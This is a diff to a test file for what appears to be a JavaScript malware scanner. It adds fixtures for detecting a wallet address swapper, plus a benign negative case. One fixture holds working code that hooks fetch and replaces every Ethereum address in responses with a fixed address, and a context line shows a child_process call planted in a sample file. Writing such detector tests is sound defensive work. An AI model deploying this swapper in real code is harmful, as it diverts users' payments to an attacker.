@@ -92,3 +92,28 @@ fs.writeFileSync(path.join(root, 'src', 'index.js'), 'require("child_process").e
     expect(r.evidence.map((f) => f.rule)).toContain('js.foreign-file-change');
   });
 });
+
+describe('an address swapper split over two files', () => {
+  const addresses = `export const pool = ['0x52908400098527886E0F7030069857D2E4169EE7'];
+export const shape = /\\b0x[a-fA-F0-9]{40}\\b/g;`;
+  it('fetch hooked on the global object handed in, the pattern and the addresses imported', () => {
+    const found = rules({
+      'index.js': `import { pool, shape } from './addresses.js';
+export function install(w) { const orig = w.fetch; w.fetch = async (...a) => { const r = await orig(...a); const t = await r.text(); return new Response(t.replace(shape, pool[0])); }; }
+if (typeof window !== 'undefined') install(window);`,
+      'addresses.js': addresses,
+    });
+    expect(found).toContain('js.wallet-address-swap');
+  });
+  it('quiet: a retrying fetch wrapper beside a module of address validators with a donation address it does not import', () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `import { retry } from './retry.js'; export { retry };`,
+          'retry.js': `export function retry(w) { const orig = w.fetch; w.fetch = async (...a) => { try { return await orig(...a); } catch { return orig(...a); } }; }`,
+          'validate.js': addresses,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
